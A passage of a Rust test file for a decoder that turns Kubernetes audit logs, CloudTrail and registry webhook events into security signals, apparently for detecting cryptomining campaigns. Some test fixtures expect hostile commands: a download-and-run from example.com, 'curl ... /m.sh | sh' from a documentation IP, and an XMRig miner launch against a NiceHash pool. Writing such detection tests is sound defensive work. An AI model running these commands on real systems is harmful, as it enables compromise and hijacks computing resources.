        "system:serviceaccount:kube-system:deployment-controller"
    );
    assert_eq!(actor.kind, "service-account");
    let change = change(&signal);
    assert_eq!(
        (change.verb.as_str(), change.resource.as_str()),
        ("create", "replicasets")
    );
    assert_eq!(change.replicas, 1);
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", "");
}

#[test]
fn audit_exec_command_params_are_percent_decoded_and_joined() {
    let decoded = decode_file("k8s-audit/exec_percent_encoded_commands.ndjson");
    let signals: Vec<&Signal> = decoded.iter().flat_map(|d| &d.signals).collect();
    assert_eq!(signals.len(), 1, "exec is taken at ResponseStarted only");
    assert_eq!(skips(&decoded), [(0, "audit stage not used")]);
    let signal = signals[0];
    assert_eq!(signal.raw.as_ref().unwrap().line, 1);
    assert_eq!(signal.source_event, "create pods/exec");
    assert_eq!(signal.event_time_unix_nano, 1_772_446_430_000_000_000);
    let access = access(signal);
    assert_eq!(access.kind, "exec");
    assert_eq!(
        access.command,
        "sh -c wget -q -O /tmp/app https://example.com/app && chmod +x /tmp/app && /tmp/app"
    );
    assert_eq!(access.container, "web");
    assert!(
        !access.interactive,
        "stdin without a tty is not interactive"
    );
    assert_k8s_workload(
        signal,
        CLUSTER,
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::PodName,
        WEB_POD,
    );
}

#[test]
fn audit_v1beta1_event_without_request_timestamps_uses_timestamp() {
    let all = signals("k8s-audit/v1beta1_timestamp_only.ndjson");
    let create = &all[0];
    assert_eq!(create.event_time_unix_nano, 1_772_437_512_000_000_000);
    assert_k8s_workload(
        create,
        CLUSTER,
        "legacy",
        "Deployment",
        "miner",
        WorkloadResolution::Explicit,
        "",
    );
    assert_image(image(create), "docker.io", "ohldm/nginx", "latest", "");
}

#[test]
fn audit_v1beta1_event_prefers_request_received_timestamp() {
    let all = signals("k8s-audit/v1beta1_timestamp_only.ndjson");
    let delete = &all[1];
    assert_eq!(delete.event_time_unix_nano, 1_772_437_559_987_654_000);
    let change = change(delete);
    assert_eq!(change.verb, "delete");
    assert!(change.containers.is_empty());
}

// ---------------------------------------------------------------------------------------------
// EKS through CloudWatch Logs

const EKS_SUBSCRIPTION: &str = "eks-cloudwatch/subscription_audit.json";

#[test]
fn eks_subscription_names_the_cluster_from_the_log_group() {
    let decoded = decode_file(EKS_SUBSCRIPTION);
    assert_eq!(decoded[0].format, Some(InputFormat::CloudwatchLogs));
    assert_eq!(decoded[0].signals.len(), 1);
    assert_eq!(skips(&decoded), [(1, "audit request is read-only")]);
    let signal = &decoded[0].signals[0];
    assert_eq!(signal.format, Format::K8sAudit as i32);
    assert_eq!(signal.raw.as_ref().unwrap().index, 0);
    assert_k8s_workload(
        signal,
        "prod-eu",
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::Explicit,
        "",
    );
    assert!(change(signal).partial);
    assert_image(image(signal), "docker.io", "yzsqbe/ka", "si", "");
}

#[test]
fn eks_iam_identity_keeps_the_canonical_role_behind_the_session() {
    let signal = only(EKS_SUBSCRIPTION);
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(actor.name, "arn:aws:sts::111122223333:assumed-role/dev/bob");
    assert_eq!(actor.on_behalf_of, "arn:aws:iam::111122223333:role/dev");
    assert_eq!(actor.source_address, "203.0.113.7");
}

#[test]
fn eks_gzipped_subscription_decodes_like_the_plain_one() {
    let plain = fixture(EKS_SUBSCRIPTION);
    let compressed = gzip(&plain);
    assert_eq!(&compressed[..2], [0x1f, 0x8b]);
    let ctx = context(EKS_SUBSCRIPTION, 1);
    let expected = decode::decode(&plain, InputFormat::Auto, &ctx).unwrap();
    for format in [InputFormat::Auto, InputFormat::CloudwatchLogs] {
        let decoded = decode::decode(&compressed, format, &ctx).unwrap();
        assert_eq!(decoded, expected, "{format}");
    }
    assert_eq!(expected.signals[0].partition_key(), "k8s/prod-eu/shop/web");
}

#[test]
fn cloudwatch_control_message_is_skipped() {
    let decoded = decode_file("eks-cloudwatch/control_message.json");
    assert_eq!(decoded[0].format, Some(InputFormat::CloudwatchLogs));
    assert!(decoded[0].signals.is_empty());
    assert_eq!(skips(&decoded), [(0, "cloudwatch control message")]);
    let compressed = gzip(&fixture("eks-cloudwatch/control_message.json"));
    let decoded = decode::decode(&compressed, InputFormat::Auto, &context("gz", 0)).unwrap();
    assert_eq!(decoded.skipped[0].reason, "cloudwatch control message");
}

#[test]
fn cloudwatch_non_audit_stream_is_skipped() {
    let decoded = decode_file("eks-cloudwatch/authenticator_stream.json");
    assert!(decoded[0].signals.is_empty());
    assert_eq!(
        skips(&decoded),
        [(0, "cloudwatch stream is not an audit log")]
    );
}

// ---------------------------------------------------------------------------------------------
// AKS diagnostic records

#[test]
fn aks_log_as_json_string_is_decoded_with_the_cluster_from_the_resource_id() {
    let decoded = decode_file("aks-diagnostic/kube_audit_log_string.json");
    assert_eq!(decoded[0].format, Some(InputFormat::AksDiagnostic));
    let signal = only("aks-diagnostic/kube_audit_log_string.json");
    assert_eq!(signal.format, Format::K8sAudit as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_449_200_250_000_000);
    // Pod create with generateName: the name comes from the response, the owner is the Job, and
    // the Job's name (a schedule time in minutes) says a CronJob created it.
    assert_k8s_workload(
        &signal,
        "aks-prod",
        "batch",
        "CronJob",
        "report",
        WorkloadResolution::Explicit,
        "report-28512345-9vhxm",
    );
    let change = change(&signal);
    assert_eq!(
        (change.verb.as_str(), change.resource.as_str()),
        ("create", "pods")
    );
    assert_eq!(
        change.commands,
        ["sh -c curl -s http://203.0.113.90/m.sh | sh"]
    );
    assert_image(
        image(&signal),
        "docker.io",
        "tensorflow/tensorflow",
        "latest",
        "",
    );
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        actor.name,
        "system:serviceaccount:kube-system:job-controller"
    );
}

#[test]
fn aks_log_as_object_is_decoded() {
    let signal = only("aks-diagnostic/kube_audit_admin_log_object.json");
    assert_k8s_workload(
        &signal,
        "aks-prod",
        "shop",
        "Deployment",
        "web",
        WorkloadResolution::Explicit,
        "",
    );
    assert_eq!(signal.actor.as_ref().unwrap().name, "bob@example.com");
    assert_eq!(
        signal.dedup_key,
        "k8s-audit/b7c8d9e0-f1a2-4b3c-8d4e-5f6a7b8c9d0e"
    );
    assert!(change(&signal).partial);
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", "");
}

#[test]
fn aks_event_hub_batch_keeps_record_positions_and_skips_other_categories() {
    let decoded = decode_file("aks-diagnostic/event_hub_records_batch.json");
    assert_eq!(decoded[0].format, Some(InputFormat::AksDiagnostic));
    assert_eq!(skips(&decoded), [(1, "aks category is not an audit log")]);
    let signals = &decoded[0].signals;
    let positions: Vec<(u32, String)> = signals
        .iter()
        .map(|s| (s.raw.as_ref().unwrap().index, s.partition_key()))
        .collect();
    assert_eq!(
        positions,
        [
            (0, "k8s/aks-prod/batch/report".to_owned()),
            (2, "k8s/aks-prod/shop/web".to_owned())
        ]
    );
}

#[test]
fn aks_non_audit_category_is_skipped() {
    let decoded = decode_file("aks-diagnostic/kube_apiserver_category.json");
    assert_eq!(decoded[0].format, Some(InputFormat::AksDiagnostic));
    assert!(decoded[0].signals.is_empty());
    assert_eq!(skips(&decoded), [(0, "aks category is not an audit log")]);
}

// ---------------------------------------------------------------------------------------------
// CloudTrail

const REGISTER_TASK_DEFINITION: &str = "cloudtrail/register_task_definition_campaign.json";
const PUT_IMAGE: &str = "cloudtrail/ecr_put_image.json";

#[test]
fn cloudtrail_register_task_definition_names_the_docker_hub_miner_image() {
    let signal = only(REGISTER_TASK_DEFINITION);
    assert_eq!(signal.format, Format::Cloudtrail as i32);
    assert_eq!(signal.source, SourceKind::Audit as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_442_760_000_000_000);
    assert_eq!(signal.source_event, "RegisterTaskDefinition");
    assert_eq!(
        signal.dedup_key,
        "cloudtrail/0e1f2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a5b"
    );
    assert_ecs_family(&signal, "111122223333", "us-east-1", "qvzkrtbw");
    let change = change(&signal);
    assert_eq!(
        (change.verb.as_str(), change.resource.as_str()),
        ("RegisterTaskDefinition", "ecs")
    );
    assert_eq!(change.revision, "qvzkrtbw:1");
    assert_eq!(change.containers.len(), 1);
    assert_eq!(change.containers[0].name, "mxtqpl");
    assert_image(
        change.containers[0].image.as_ref().unwrap(),
        "docker.io",
        "yzsqbe/ka",
        "si",
        "",
    );
    assert_image(image(&signal), "docker.io", "yzsqbe/ka", "si", "");
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(actor.name, "arn:aws:iam::111122223333:user/aws_dev4821");
    assert_eq!(actor.kind, "iam:IAMUser");
    assert_eq!(actor.source_address, "198.51.100.44");
}

#[test]
fn cloudtrail_create_service_shares_the_task_family_key() {
    let signal = only("cloudtrail/create_service_campaign.json");
    assert_ecs_family(&signal, "111122223333", "us-east-1", "qvzkrtbw");
    let key = workload(&signal);
    assert_eq!(
        (key.cluster.as_str(), key.service.as_str()),
        ("hjwpqmzn", "qvzkrtbw-service")
    );
    let change = change(&signal);
    assert_eq!(change.verb, "CreateService");
    assert_eq!(change.revision, "qvzkrtbw");
    assert_eq!(change.replicas, 25);
    assert!(change.containers.is_empty(), "a service names no image");
    assert_eq!(
        signal.partition_key(),
        only(REGISTER_TASK_DEFINITION).partition_key()
    );
}

#[test]
fn cloudtrail_run_task_keeps_the_container_override_command() {
    let signal = only("cloudtrail/run_task_container_override.json");
    assert_ecs_family(&signal, "111122223333", "eu-west-1", "web");
    let key = workload(&signal);
    assert_eq!(key.cluster, "prod");
    assert_eq!(
        key.instance,
        "arn:aws:ecs:eu-west-1:111122223333:task/prod/0f1e2d3c4b5a49788796a5b4c3d2e1f0"
    );
    let change = change(&signal);
    assert_eq!(change.revision, "web:42");
    assert_eq!(change.replicas, 1);
    assert_eq!(change.containers.len(), 1);
    assert_eq!(change.containers[0].name, "web");
    assert_image(
        change.containers[0].image.as_ref().unwrap(),
        ECR_EU_WEST_1,
        "web",
        "1.8.3",
        "",
    );
    assert_eq!(
        change.commands,
        [
            "sh -c wget -q https://github.com/xmrig/xmrig/releases/download/v6.14.1/\
          xmrig-6.14.1-linux-x64.tar.gz && tar -zxf xmrig-6.14.1-linux-x64.tar.gz && \
          ./xmrig-6.14.1/xmrig -o stratum+tcp://randomxmonero.auto.nicehash.com:9200"
        ]
    );
    assert_eq!(
        signal.actor.as_ref().unwrap().name,
        "arn:aws:iam::111122223333:user/ci-deployer"
    );
}

#[test]
fn cloudtrail_update_service_with_a_new_revision_names_family_and_service() {
    let signal = only("cloudtrail/update_service_new_revision.json");
    assert_ecs_family(&signal, "111122223333", "eu-west-1", "web");
    let key = workload(&signal);
    assert_eq!(
        (key.cluster.as_str(), key.service.as_str()),
        ("prod", "web-svc")
    );
    let change = change(&signal);
    assert_eq!(change.verb, "UpdateService");
    assert_eq!(change.revision, "web:43");
    assert_eq!(change.replicas, 4);
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        actor.name,
        "arn:aws:sts::111122223333:assumed-role/deployer/deploy-session"
    );
    assert_eq!(actor.kind, "iam:AssumedRole");
    assert_eq!(
        actor.on_behalf_of,
        "arn:aws:iam::111122223333:role/deployer"
    );
}

#[test]
fn cloudtrail_update_service_without_a_task_definition_is_keyed_by_the_service() {
    let all = signals("cloudtrail/update_service_force_new_deployment.ndjson");
    let signal = &all[0];
    let key = workload(signal);
    assert_eq!(key.platform, Platform::Ecs as i32);
    assert_eq!(
        (key.kind.as_str(), key.name.as_str()),
        ("Service", "web-svc")
    );
    assert_eq!(key.service, "web-svc");
    assert_eq!(
        key.cluster, "prod",
        "a cluster ARN is shortened to its name"
    );
    assert_eq!(signal.partition_key(), "ecs/111122223333/eu-west-1/web-svc");
    let change = change(signal);
    assert_eq!(change.revision, "");
    assert!(change.containers.is_empty());
}

#[test]
fn cloudtrail_update_service_response_names_the_family_of_a_forced_deployment() {
    let all = signals("cloudtrail/update_service_force_new_deployment.ndjson");
    let signal = &all[1];
    assert_ecs_family(signal, "111122223333", "eu-west-1", "web");
    assert_eq!(workload(signal).service, "web-svc");
    assert_eq!(change(signal).revision, "web:43");
}

#[test]
fn cloudtrail_execute_command_is_ecs_exec_access_on_the_task() {
    let signal = only("cloudtrail/execute_command.json");
    let access = access(&signal);
    assert_eq!(access.kind, "ecs-execute-command");
    assert_eq!(access.command, "/bin/sh");
    assert_eq!(access.container, "web");
    assert!(access.interactive);
    let key = workload(&signal);
    assert_eq!(key.platform, Platform::Ecs as i32);
    assert_eq!(key.kind, "Task");
    assert_eq!(key.resolution, WorkloadResolution::Instance as i32);
    assert_eq!(key.cluster, "prod");
    assert_eq!(
        key.instance,
        "arn:aws:ecs:eu-west-1:111122223333:task/prod/0f1e2d3c4b5a49788796a5b4c3d2e1f0"
    );
    assert_eq!(
        (key.account.as_str(), key.region.as_str()),
        ("111122223333", "eu-west-1")
    );
    // ECS Exec names the task, not its family: the task id keys it, so that sessions into
    // different tasks never share one workload.
    assert_eq!(key.name, "0f1e2d3c4b5a49788796a5b4c3d2e1f0");
    assert_eq!(
        signal.partition_key(),
        "ecs/111122223333/eu-west-1/0f1e2d3c4b5a49788796a5b4c3d2e1f0"
    );
    assert_eq!(
        signal.actor.as_ref().unwrap().name,
        "arn:aws:iam::111122223333:user/ops-carol"
    );
}

#[test]
fn cloudtrail_ecr_put_image_names_registry_digest_and_pusher() {
    let signal = only(PUT_IMAGE);
    assert_eq!(signal.source_event, "PutImage");
    assert_image(
        image(&signal),
        ECR_EU_WEST_1,
        "web",
        "1.8.4",
        WEB_184_DIGEST,
    );
    let pushed = pushed(&signal);
    assert_eq!(
        pushed.media_type,
        "application/vnd.docker.distribution.manifest.v2+json"
    );
    assert_eq!(pushed.tags, ["1.8.4"]);
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        actor.name,
        "arn:aws:sts::111122223333:assumed-role/ci-push/gha-push"
    );
    assert_eq!(actor.on_behalf_of, "arn:aws:iam::111122223333:role/ci-push");
    assert_eq!(actor.source_address, "198.51.100.77");
    assert_eq!(
        workload(&signal).resolution,
        WorkloadResolution::None as i32
    );
    assert_eq!(signal.partition_key(), format!("image/{ECR_EU_WEST_1}/web"));
}

#[test]
fn cloudtrail_records_batch_keeps_positions_and_skips_uncorrelated_calls() {
    let decoded = decode_file("cloudtrail/records_batch.json");
    assert_eq!(decoded[0].format, Some(InputFormat::Cloudtrail));
    let calls: Vec<(u32, &str)> = decoded[0]
        .signals
        .iter()
        .map(|s| (s.raw.as_ref().unwrap().index, s.source_event.as_str()))
        .collect();
    assert_eq!(calls, [(0, "RegisterTaskDefinition"), (1, "CreateService")]);
    assert_eq!(skips(&decoded), [(2, "api call not correlated")]);
    let keys: Vec<String> = decoded[0]
        .signals
        .iter()
        .map(Signal::partition_key)
        .collect();
    assert_eq!(keys, ["ecs/111122223333/us-east-1/qvzkrtbw"; 2]);
}

#[test]
fn eventbridge_wrapped_put_image_matches_the_direct_record() {
    let decoded = decode_file("eventbridge/cloudtrail_put_image.json");
    assert_eq!(decoded[0].format, Some(InputFormat::Eventbridge));
    let wrapped = &decoded[0].signals[0];
    let direct = only(PUT_IMAGE);
    assert_eq!(wrapped.format, Format::Cloudtrail as i32);
    assert_eq!(
        wrapped.dedup_key, direct.dedup_key,
        "one call, one dedup key, any transport"
    );
    assert_eq!(wrapped.event_time_unix_nano, direct.event_time_unix_nano);
    assert_eq!(wrapped.image, direct.image);
    assert_eq!(wrapped.actor, direct.actor);
    assert_eq!(wrapped.fact, direct.fact);
    assert_eq!(wrapped.partition_key(), direct.partition_key());
}

#[test]
fn cloudtrail_failed_call_is_skipped() {
    let decoded = decode_file("cloudtrail/run_task_access_denied.json");
    assert!(decoded[0].signals.is_empty());
    assert_eq!(skips(&decoded), [(0, "api call failed")]);
}

// ---------------------------------------------------------------------------------------------
// EventBridge ECS and ECR events

#[test]
fn ecs_task_state_change_binds_runtime_ids_to_family_and_digest() {
    let signal = only("eventbridge/ecs_task_state_change.json");
    assert_eq!(signal.format, Format::EcsTaskState as i32);
    assert_eq!(signal.source, SourceKind::Audit as i32);
    assert_eq!(
        signal.event_time_unix_nano, 1_772_446_409_500_000_000,
        "detail.updatedAt"
    );
    assert_eq!(
        signal.dedup_key,
        "eventbridge/9bcdac79-b31f-4d3d-9410-fbd727c29fab"
    );
    assert_ecs_family(&signal, "111122223333", "us-west-2", "web-fargate");
    let key = workload(&signal);
    assert_eq!(key.cluster, "FargateCluster");
    assert_eq!(
        key.instance,
        "arn:aws:ecs:us-west-2:111122223333:task/FargateCluster/5a4c3d2e1f0b4a9c8d7e6f5a4b3c2d1e"
    );
    assert_eq!(key.service, "", "a `family:` group names no service");
    let started = started(&signal);
    assert_eq!(started.status, "RUNNING");
    assert_eq!(started.containers.len(), 1);
    let container = &started.containers[0];
    assert_eq!(
        container.id,
        "1f33e074742952bdfd101afac0eb26e6d419a2800ad85a628e55d3055eb40410"
    );
    assert_eq!(container.name, "web-app");
    assert_image(
        container.image.as_ref().unwrap(),
        "111122223333.dkr.ecr.us-west-2.amazonaws.com",
        "web-repository",
        "latest",
        "sha256:7f3a962cf175edf9229bc81dd553d1e37e27ae84641cead7525d49f64e7ab648",
    );
    assert_eq!(image(&signal), container.image.as_ref().unwrap());
}

#[test]
fn ecr_image_action_push_is_an_image_push_without_actor() {
    let decoded = decode_file("eventbridge/ecr_image_action.ndjson");
    let signal = &decoded[0].signals[0];
    assert_eq!(signal.format, Format::EcrImageAction as i32);
    assert_eq!(signal.source, SourceKind::Registry as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_445_490_000_000_000);
    assert_eq!(signal.source_event, "ECR Image Action");
    assert_image(image(signal), ECR_EU_WEST_1, "web", "1.8.4", WEB_184_DIGEST);
    assert!(signal.actor.is_none(), "ECR Image Action names no pusher");
    let pushed = pushed(signal);
    assert_eq!(
        pushed.media_type,
        "application/vnd.docker.distribution.manifest.v2+json"
    );
    assert_eq!(pushed.tags, ["1.8.4"]);
    // CloudTrail PutImage of the same push keys the same image fact.
    assert_eq!(
        image(signal).table_key(),
        image(&only(PUT_IMAGE)).table_key()
    );
}

#[test]
fn ecr_image_action_delete_and_failed_push_are_skipped() {
    let decoded = decode_file("eventbridge/ecr_image_action.ndjson");
    assert_eq!(decoded.len(), 3);
    assert!(decoded[1].signals.is_empty() && decoded[2].signals.is_empty());
    assert_eq!(
        skips(&decoded[1..]),
        [
            (0, "ecr action is not a successful push"),
            (0, "ecr action is not a successful push")
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// Registry webhooks

#[test]
fn distribution_push_by_tag_gives_the_manifest_and_skips_the_layer() {
    let decoded = decode_file("distribution/push_manifest_and_layer.json");
    assert_eq!(decoded[0].format, Some(InputFormat::Distribution));
    assert_eq!(decoded[0].signals.len(), 1);
    assert_eq!(skips(&decoded), [(1, "registry push of a layer")]);
    let signal = &decoded[0].signals[0];
    assert_eq!(signal.format, Format::Distribution as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_445_450_123_456_789);
    assert_eq!(
        signal.dedup_key,
        "distribution/7d1e2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a01"
    );
    assert_image(
        image(signal),
        "registry.example.com",
        "shop/web",
        "1.8.4",
        WEB_184_DIGEST,
    );
    let pushed = pushed(signal);
    assert_eq!(
        pushed.media_type,
        "application/vnd.docker.distribution.manifest.v2+json"
    );
    assert_eq!(pushed.tags, ["1.8.4"]);
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        (actor.name.as_str(), actor.kind.as_str()),
        ("ci-bot", "registry")
    );
    assert_eq!(
        actor.source_address, "198.51.100.7",
        "the source IP, without the client port"
    );
    assert!(actor.user_agent.starts_with("docker/27.1.1"));
    assert_eq!(
        signal.partition_key(),
        "image/registry.example.com/shop/web"
    );
}

#[test]
fn distribution_oci_index_push_keeps_media_type_and_offset_time() {
    let signal = only("distribution/push_oci_index.json");
    let pushed = pushed(&signal);
    assert_eq!(pushed.media_type, "application/vnd.oci.image.index.v1+json");
    assert_eq!(pushed.tags, ["2.0.0"]);
    assert_image(
        image(&signal),
        "registry.example.com",
        "shop/web",
        "2.0.0",
        "sha256:8f223532747915f1c09193af8988c9ad26d456f359f505317f3d312107317079",
    );
    assert_eq!(
        signal.event_time_unix_nano, 1_772_474_265_500_000_000,
        "-08:00 is applied"
    );
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        (actor.name.as_str(), actor.source_address.as_str()),
        ("release-bot", "2001:db8::7")
    );
}

#[test]
fn harbor_cloudevents_push_names_robot_operator_and_digest() {
    let decoded = decode_file("harbor/cloudevents_artifact_pushed.json");
    assert_eq!(decoded[0].format, Some(InputFormat::Harbor));
    let signal = &decoded[0].signals[0];
    assert_eq!(signal.format, Format::Harbor as i32);
    assert_eq!(signal.source_event, "harbor.artifact.pushed");
    assert_eq!(signal.event_time_unix_nano, 1_772_445_490_000_000_000);
    assert_eq!(
        signal.dedup_key,
        "harbor/2e6d8f0a-1b3c-4d5e-9f7a-8b9c0d1e2f3a/0"
    );
    assert_image(
        image(signal),
        "harbor.example.com",
        "shop/web",
        "1.8.4",
        "sha256:d98fac8de15349b27e0184646d9bcd242a366dd6eb5728dd38c3907a88700352",
    );
    let actor = signal.actor.as_ref().unwrap();
    assert_eq!(
        (actor.name.as_str(), actor.kind.as_str()),
        ("robot$shop+ci", "registry")
    );
    assert_eq!(pushed(signal).tags, ["1.8.4"]);
    assert_eq!(signal.partition_key(), "image/harbor.example.com/shop/web");
}

#[test]
fn quay_push_has_no_digest_no_actor_and_takes_the_fallback_time() {
    let decoded = decode_file("quay/repo_push.json");
    assert_eq!(decoded[0].format, Some(InputFormat::Quay));
    let signal = &decoded[0].signals[0];
    assert_eq!(signal.format, Format::Quay as i32);
    assert_eq!(signal.event_time_unix_nano, FALLBACK_TIME);
    assert_ne!(signal.event_time_unix_nano, signal.ingest_time_unix_nano);
    assert_image(image(signal), "quay.io", "acme/web", "1.8.4", "");
    assert!(signal.actor.is_none(), "Quay does not name the pusher");
    assert_eq!(pushed(signal).tags, ["1.8.4", "latest"]);
    assert_eq!(signal.partition_key(), "image/quay.io/acme/web");
}

#[test]
fn docker_hub_official_image_is_in_the_library_namespace() {
    let all = signals("dockerhub/official_library_image.ndjson");
    let signal = &all[0];
    assert_eq!(signal.format, Format::DockerHub as i32);
    assert_eq!(signal.event_time_unix_nano, 1_772_445_000_000_000_000);
    assert_image(image(signal), "docker.io", "library/redis", "7.2.5", "");
    assert_eq!(signal.actor.as_ref().unwrap().name, "doijanky");
    assert_eq!(pushed(signal).tags, ["7.2.5"]);
    // A bare official name gets the same repository, not `library/library/...`.
    assert_eq!(image(&all[1]).repository, "library/redis");
    assert_eq!(signal.partition_key(), all[1].partition_key());
}

#[test]
fn docker_hub_push_without_a_tag_means_latest() {
    let all = signals("dockerhub/official_library_image.ndjson");
    assert_image(image(&all[1]), "docker.io", "library/redis", "latest", "");
    assert_eq!(pushed(&all[1]).tags, ["latest"]);
}

// ---------------------------------------------------------------------------------------------
// Format per topic

#[test]
fn falco_alert_decodes_on_a_falco_topic() {
    let decoded = decode_as(FALCO_MINER, InputFormat::Falco);
    assert_eq!(decoded[0].format, Some(InputFormat::Falco));
    assert_eq!(decoded[0].signals, signals(FALCO_MINER));
}

#[test]
fn falco_alert_on_a_harbor_topic_is_a_harbor_decode_error() {
    let bytes = fixture(FALCO_MINER);
    let error: DecodeError =
        decode::decode(&bytes, InputFormat::Harbor, &context(FALCO_MINER, 1)).unwrap_err();
    assert_eq!(error.format, Some(InputFormat::Harbor));
    assert!(error.to_string().starts_with("`harbor`: "), "{error}");
    assert!(error.reason.contains("`type`"), "{error}");
}

#[test]
fn every_edge_fixture_decodes_without_error() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures/edge");
    let mut files = 0;
    for source in std::fs::read_dir(&root).unwrap() {
        let source = source.unwrap().path();
        if !source.is_dir() {
            continue;
        }
        for file in std::fs::read_dir(&source).unwrap() {
            let file = file.unwrap().path();
            let relative = file
                .strip_prefix(&root)
                .unwrap()
                .to_str()
                .unwrap()
                .to_owned();
            let decoded = decode_file(&relative);
            assert!(!decoded.is_empty(), "{relative} holds records");
            for record in &decoded {
                assert!(
                    !record.signals.is_empty() || !record.skipped.is_empty(),
                    "{relative}: every record gives signals or counted skips"
                );
            }
            files += 1;
        }
    }
    assert!(files >= 50, "{files} fixture files");
}
